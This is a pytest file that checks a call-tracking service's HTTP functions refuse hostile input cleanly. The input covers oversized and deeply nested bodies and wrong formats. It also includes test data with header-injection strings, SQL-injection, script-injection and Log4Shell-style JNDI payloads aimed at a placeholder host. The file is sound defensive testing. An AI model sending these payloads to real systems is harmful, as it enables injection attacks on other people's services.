"""Hostile input to the HTTP functions: a clear 4xx with a reason, never a 5xx,
and nothing written.

Only what the functions' own tests leave out: bodies over the limit, above
all without a declared length (chunked); JSON nested past the interpreter's
recursion limit, and past the product's depth limit on the webhook paths;
bodies in another format than the endpoint reads; CR/LF in provider fields;
SQL- and script-like UTM values, which assign stores in normal form beside
the values as sent, never run or turned into something else. The last part
keeps the cases tests/test_api_fuzz.py found, so that they stay fixed.
"""

from __future__ import annotations

import itertools
import json
import time
from pathlib import Path
from urllib.parse import parse_qsl, urlencode

import pytest
import requests

from shared.crm import hubspot
from tests import signers
from tests.conftest import ORIGIN, STACK_ENV, UA, numbers
from tests.fakes import crm as fake_crm

SECRETS = json.loads(STACK_ENV["CALLTRACK_PROVIDER_SECRETS"])["demo"]
TWILIO = (Path(__file__).parent / "data" / "webhooks" / "twilio"
          / "status_ringing.txt").read_text().strip()
FORM = "application/x-www-form-urlencoded"
JSON = "application/json"
KB = 1024
# Past CPython's recursion limit (1000), so json.loads itself gives up.
ABYSS = 30_000
START = {"call_id": "1773299690.1187", "event": "start",
         "tracking_number": "+74951234567", "caller": "89161234567"}
_addresses = itertools.count(1)


# -- requests as each sender makes them ----------------------------------------


def generic(body: bytes, content_type: str = JSON) -> dict:
    """Headers of a generic hook request signed with the site's secret."""
    stamp = str(int(time.time()))
    return {"Content-Type": content_type, "X-Calltrack-Timestamp": stamp,
            "X-Calltrack-Signature": signers.generic_signature(
                SECRETS["generic_secret"], stamp, body)}


def crm_hook(body: bytes, content_type: str = JSON) -> dict:
    """Headers of a generic CRM deal change signed with the site's secret."""
    stamp = str(int(time.time()))
    return {"Content-Type": content_type, "X-Calltrack-Timestamp": stamp,
            "X-Calltrack-Signature": signers.generic_signature(
                fake_crm.HOOK_SECRET, stamp, body)}


def hubspot_signed(url: str, content_type: str = JSON):
    """Headers of a HubSpot v3-signed POST to ``url``, for a given body."""

    def headers(body: bytes) -> dict:
        stamp = str(int(time.time() * 1000))
        return {"Content-Type": content_type, "X-HubSpot-Request-Timestamp": stamp,
                "X-HubSpot-Signature-v3": hubspot.signature(
                    fake_crm.HUBSPOT_SECRET, "POST", url, body, stamp)}

    return headers


def twilio(url: str, body: bytes, content_type: str = FORM) -> dict:
    """Headers of a Twilio request; only a form's fields are signed."""
    fields = dict(parse_qsl(body.decode())) if content_type == FORM else {}
    return {"Content-Type": content_type, "X-Twilio-Signature":
            signers.twilio_signature(SECRETS["twilio_auth_token"], url, fields)}


def post(url: str, body, headers: dict) -> requests.Response:
    """POST as a browser would, each from its own address (assign's limit)."""
    headers = {"User-Agent": UA, "X-Forwarded-For": f"198.18.0.{next(_addresses)}",
               **headers}
    return requests.post(url, data=body, headers=headers, timeout=30)


def chunked(body: bytes, size: int = 8 * KB):
    """The body as a generator, which requests sends chunked, without a length."""
    for start in range(0, len(body), size):
        yield body[start:start + size]


def documents(fs) -> set[str]:
    """The path of every stored document, raw payloads of calls included."""
    paths = {doc.reference.path for col in fs.collections() for doc in col.stream()}
    return paths | {doc.reference.path for doc in fs.collection_group("raw").stream()}


def assert_refused(resp: requests.Response, status: int, code: str) -> None:
    assert (resp.status_code, resp.headers["Content-Type"]) == (status, JSON), resp.text
    error = resp.json()["error"]
    assert error["code"] == code, error
    assert error["message"].endswith("."), error


@pytest.fixture
def sites(make_site):
    """The demo site (provider secrets) and the CRM sites of STACK_ENV."""
    make_site(dynamic_numbers=numbers(2))
    for site_id in ("crm-amo", "crm-bitrix", "crm-hubspot", "crm-hook"):
        make_site(site_id=site_id, extra={"crm": fake_crm.site_crm(site_id)})


@pytest.fixture
def url(stack):
    return lambda name, path: stack.urls[name] + path


# -- oversized bodies ----------------------------------------------------------


@pytest.mark.parametrize(("name", "path", "limit", "transfer"), [
    ("call_webhook", "/generic/demo", 64 * KB, "declared"),
    ("call_webhook", "/generic/demo", 64 * KB, "chunked"),
    ("crm_webhook", "/webhook/crm-hook", 256 * KB, "declared"),
    ("crm_webhook", "/webhook/crm-hook", 256 * KB, "chunked"),
    ("assign", "/?site=demo", 16 * KB, "chunked"),
    ("utm_check", "/", 256 * KB, "chunked"),
])
def test_a_body_over_the_limit_is_a_413_whether_or_not_its_length_is_declared(
    name, path, limit, transfer, sites, url, fs
):
    """A body one byte past the function's limit is refused with a 413, also
    when it comes chunked and the limit can only be found by reading."""
    body = b'{"pad": "' + b"x" * (limit - 10) + b'"}'
    assert len(body) == limit + 1
    before = documents(fs)
    data = body if transfer == "declared" else chunked(body)
    headers = {"Content-Type": "text/plain" if name in ("assign", "utm_check")
               else JSON, "Origin": ORIGIN}

    resp = post(url(name, path), data, headers)

    assert_refused(resp, 413, "too_large")
    assert documents(fs) == before


# -- nesting -------------------------------------------------------------------


def _deep_array(levels: int) -> bytes:
    return b"[" * levels + b"]" * levels


def _deep_object(levels: int) -> bytes:
    return b'{"a":' * levels + b"1" + b"}" * levels


NESTED = [
    # name, path, body, headers of the body
    ("call_webhook", "/generic/demo", _deep_array(ABYSS), generic),
    ("call_webhook", f"/uis/demo?secret={SECRETS['uis_secret']}", _deep_array(ABYSS),
     lambda body: {"Content-Type": JSON}),
    ("call_webhook", "/generic/demo", _deep_object(20), generic),
    ("crm_webhook", "/webhook/crm-hook", _deep_array(ABYSS), crm_hook),
    ("crm_webhook", "/webhook/crm-hook", _deep_object(20), crm_hook),
    # HubSpot's reader once let both through: a 500, then a 200.
    ("crm_webhook", "/hubspot/crm-hubspot", _deep_array(ABYSS), "hubspot"),
    ("crm_webhook", "/hubspot/crm-hubspot", b"[" + _deep_object(20) + b"]", "hubspot"),
    ("assign", "/?site=demo", _deep_array(7000), lambda body: {"Content-Type": JSON}),
    ("utm_check", "/values", _deep_array(ABYSS), lambda body: {"Content-Type": JSON}),
]


@pytest.mark.parametrize(
    ("name", "path", "body", "sign"), NESTED,
    ids=[f"{n}{p.split('?')[0]}-{len(b)}" for n, p, b, _ in NESTED])
def test_json_nested_too_deep_is_a_400_even_past_the_recursion_limit(
    name, path, body, sign, sites, url, fs
):
    """JSON nested past the product's depth, or past what the parser can
    recurse into, is refused as malformed JSON."""
    target = url(name, path)
    headers = hubspot_signed(target)(body) if sign == "hubspot" else sign(body)
    before = documents(fs)

    resp = post(target, body, {**headers, "Origin": ORIGIN})

    assert_refused(resp, 400, "json")
    assert documents(fs) == before


# -- another format than the endpoint reads ------------------------------------


FORMATS = [
    # name, path, body, headers of the body, (status, code)
    ("call_webhook", "/generic/demo", urlencode(START).encode(),
     lambda body: generic(body, FORM), (400, "json")),
    ("call_webhook", f"/uis/demo?secret={SECRETS['uis_secret']}",
     b"event=start&call_session_id=1", lambda body: {"Content-Type": FORM},
     (400, "json")),
    ("call_webhook", "/twilio/demo", TWILIO.encode(), "twilio-as-text", (400, "json")),
    ("call_webhook", "/mango/demo/events/call",
     json.dumps({"vpbx_api_key": SECRETS["mango_api_key"], "json": "{}"}).encode(),
     lambda body: {"Content-Type": JSON}, (401, "signature_missing")),
    ("call_webhook", "/zadarma/demo", json.dumps({"event": "NOTIFY_START"}).encode(),
     lambda body: {"Content-Type": JSON, "Signature": "c2ln"}, (400, "zadarma_event")),
    ("crm_webhook", "/hubspot/crm-hubspot", b"objectId=1&propertyName=dealstage",
     "hubspot-as-form", (400, "json")),
    ("crm_webhook", f"/amocrm/crm-amo/{fake_crm.AMO_WEBHOOK_SECRET}",
     json.dumps({"account": {"subdomain": "shop"}, "leads": {}}).encode(),
     lambda body: {"Content-Type": JSON}, (403, "account")),
    ("crm_webhook", "/bitrix24/crm-bitrix", json.dumps({
        "event": "ONCRMDEALUPDATE", "data": {"FIELDS": {"ID": "1"}},
        "auth": {"application_token": fake_crm.BITRIX_TOKEN}}).encode(),
     lambda body: {"Content-Type": JSON}, (401, "token")),
    ("crm_webhook", "/webhook/crm-hook", b"deal_id=D-1&won=true",
     lambda body: crm_hook(body, FORM), (400, "json")),
    ("assign", "/?site=demo", b"{}",
     lambda body: {"Content-Type": "multipart/form-data; boundary=x"},
     (415, "unsupported_media_type")),
    ("assign", "/?site=demo", b"{}", lambda body: {"Content-Type": ""},
     (415, "unsupported_media_type")),
    ("utm_check", "/", b'{"url": "https://a.example/"}',
     lambda body: {"Content-Type": ""}, (415, "unsupported_media_type")),
]


@pytest.mark.parametrize(("name", "path", "body", "sign", "refusal"), FORMATS,
                         ids=[f"{n}{p.split('?')[0]}-{i}"
                              for i, (n, p, *_) in enumerate(FORMATS)])
def test_a_body_in_another_format_is_refused_with_the_reason(
    name, path, body, sign, refusal, sites, url, fs
):
    """A body of another media type than the endpoint reads (or none) is
    refused with a 4xx saying what was missing, even when it is signed."""
    target = url(name, path)
    if sign == "twilio-as-text":
        headers = twilio(target, body, "text/plain")
    elif sign == "hubspot-as-form":
        headers = hubspot_signed(target, FORM)(body)
    else:
        headers = sign(body)
    before = documents(fs)

    resp = post(target, body, {**headers, "Origin": ORIGIN})

    assert_refused(resp, *refusal)
    assert documents(fs) == before


# -- CR/LF in provider fields --------------------------------------------------

INJECTED = "\r\nSet-Cookie: session=stolen\r\nX-Injected: 1"


def _generic_with(**fields) -> tuple[str, bytes, dict]:
    body = json.dumps({**START, **fields}).encode()
    return "/generic/demo", body, generic(body)


def _recording_with(url: str) -> tuple[str, bytes, dict]:
    body = json.dumps({"call_id": "1773299690.1187", "event": "recording",
                       "recording_url": url}).encode()
    return "/generic/demo", body, generic(body)


def _twilio_with(sid: str, base: str) -> tuple[str, bytes, dict]:
    fields = dict(parse_qsl(TWILIO))
    body = urlencode({**fields, "CallSid": sid}).encode()
    return "/twilio/demo", body, twilio(base + "/twilio/demo", body)


@pytest.mark.parametrize("field", ["generic call_id", "generic recording_url",
                                   "twilio CallSid"])
def test_cr_lf_in_a_provider_field_is_a_400_and_never_reaches_a_header(
    field, sites, stack, fs
):
    """An id or a recording URL carrying CR/LF and header lines is refused;
    the answer holds no injected header and the log no forged line."""
    base = stack.urls["call_webhook"]
    path, body, headers = {
        "generic call_id": lambda: _generic_with(call_id="1773299690.1187" + INJECTED),
        "generic recording_url": lambda: _recording_with(
            "https://pbx.example.ru/r.mp3" + INJECTED),
        "twilio CallSid": lambda: _twilio_with("CA9a1c6f0e2b7d" + INJECTED, base),
    }[field]()
    log_start = len(stack.log_text("call_webhook"))
    before = documents(fs)

    resp = post(base + path, body, headers)

    assert_refused(resp, 400, "call_event")
    assert "Set-Cookie" not in resp.headers and "X-Injected" not in resp.headers
    assert documents(fs) == before
    # Each log record is one JSON line: CR/LF stay escaped inside it.
    logged = stack.log_text("call_webhook")[log_start:].splitlines()
    assert logged and all(json.loads(line) for line in logged if line.strip())


def test_a_zadarma_url_check_with_cr_lf_is_refused_without_echoing_it(sites, stack):
    """The unsigned echo never copies CR/LF into the answer."""
    resp = requests.get(stack.urls["call_webhook"] + "/zadarma/demo",
                        params={"zd_echo": "8d3f0b5c" + INJECTED}, timeout=30)

    assert_refused(resp, 400, "zadarma_echo")
    assert "Set-Cookie" not in resp.headers and "X-Injected" not in resp.headers


# -- SQL- and script-like UTM values -------------------------------------------

HOSTILE_UTM = {
    "utm_source": "google'; DROP TABLE sessions;--",
    "utm_medium": "cpc",
    "utm_campaign": "<script>alert(1)</script>",
    "utm_content": '" OR 1=1 --',
    "utm_term": "{{7*7}} ${jndi:ldap://x.example/a}",
}
# Lower case, words joined by "_", only [a-z0-9_]: what docs/utm.md promises.
NORMAL_UTM = {
    "utm_source": "google_drop_table_sessions",
    "utm_medium": "cpc",
    "utm_campaign": "script_alert_1_script",
    "utm_content": "or_1_1",
    "utm_term": "7_7_jndi_ldap_x_example_a",
}


def test_sql_and_script_like_utm_values_are_stored_normalised_beside_the_raw(
    sites, stack, fs
):
    """assign keeps such values as data: the normal form, and beside it the
    values exactly as sent; nothing else is touched."""
    landing = "https://shop.example.test/?q=<script>alert(1)</script>"
    touch = {**HOSTILE_UTM, "landing_page": landing}
    visit = {"visitor_id": "visitor-hostile-01", "session_id": "session-hostile-01",
             "page_url": "https://shop.example.test/<img src=x onerror=alert(1)>",
             "first_touch": touch, "last_touch": touch,
             "consent": {"analytics": True, "ads": True}}
    before = documents(fs)

    resp = post(stack.urls["assign"] + "/?site=demo", json.dumps(visit).encode(),
                {"Content-Type": "text/plain", "Origin": ORIGIN})
    checked = post(stack.urls["utm_check"] + "/values",
                   json.dumps(HOSTILE_UTM).encode(), {"Content-Type": JSON})

    assert resp.status_code == 200, resp.text
    assert "alert" not in resp.text and "DROP" not in resp.text
    session = fs.collection("sessions").document("session-hostile-01").get().to_dict()
    for name in ("first_touch", "last_touch"):
        stored = session[name]
        assert {key: stored[key] for key in NORMAL_UTM} == NORMAL_UTM
        assert stored["utm_raw"] == HOSTILE_UTM
        assert stored["landing_page"] == landing
    assert session["page_url"] == visit["page_url"]
    assert (session["source"], session["medium"]) == ("google_drop_table_sessions",
                                                      "cpc")
    # Only the visit's own documents are new, and nothing was dropped.
    after = documents(fs)
    assert {"sessions/session-hostile-01", "visitors/visitor-hostile-01"} <= after
    assert all(path.startswith(("sessions/", "visitors/", "holds/"))
               for path in after - before)
    assert before <= after
    assert checked.json()["values"] == NORMAL_UTM


# -- found by tests/test_api_fuzz.py -------------------------------------------


@pytest.mark.parametrize("site", ["", "a/b", "__x__", "x" * 1600],
                         ids=["empty", "path", "reserved", "over-1500-bytes"])
@pytest.mark.parametrize("route", ["/", "/renew", "/release"])
def test_assign_with_a_malformed_site_id_is_a_404_not_a_500(site, route, sites, stack):
    """A site id that cannot name a Firestore document (empty, a path, a
    reserved name, over 1500 bytes) is an unknown site, not a 500 from the
    failed read."""
    body = json.dumps({"session_id": "session-00000001"}).encode()

    resp = post(stack.urls["assign"] + route + "?" + urlencode({"site": site}), body,
                {"Content-Type": "text/plain"})

    assert_refused(resp, 404, "unknown_site")


@pytest.mark.parametrize(("route", "field"), [
    ("/", "visitor_id"), ("/", "session_id"), ("/renew", "session_id"),
    ("/release", "session_id"),
])
def test_an_id_of_firestore_reserved_form_is_a_400_not_a_500(route, field, sites,
                                                              stack, fs):
    """An id of the form __name__, which Firestore refuses to store, is a
    refused field, not a 500."""
    body = {"session_id": "session-00000001", "last_touch": {"utm_medium": "cpc"},
            field: "__reserved__"}
    before = documents(fs)

    resp = post(stack.urls["assign"] + route + "?site=demo", json.dumps(body).encode(),
                {"Content-Type": "text/plain", "Origin": ORIGIN})

    assert_refused(resp, 400, "field")
    assert documents(fs) == before


def test_a_bitrix24_update_of_a_deal_it_no_longer_has_is_acknowledged_as_ignored(
    sites, stack
):
    """An update of a deal Bitrix24 no longer has (crm.deal.get answers 400
    "Not found") is acknowledged as ignored, not a 500 it would retry forever."""
    body = fake_crm.SERVER.bitrix_webhook(987654)

    resp = post(stack.urls["crm_webhook"] + "/bitrix24/crm-bitrix", body,
                {"Content-Type": FORM})

    assert (resp.status_code, resp.json()) == (200, {"recorded": [],
                                                     "ignored": ["987654"]})
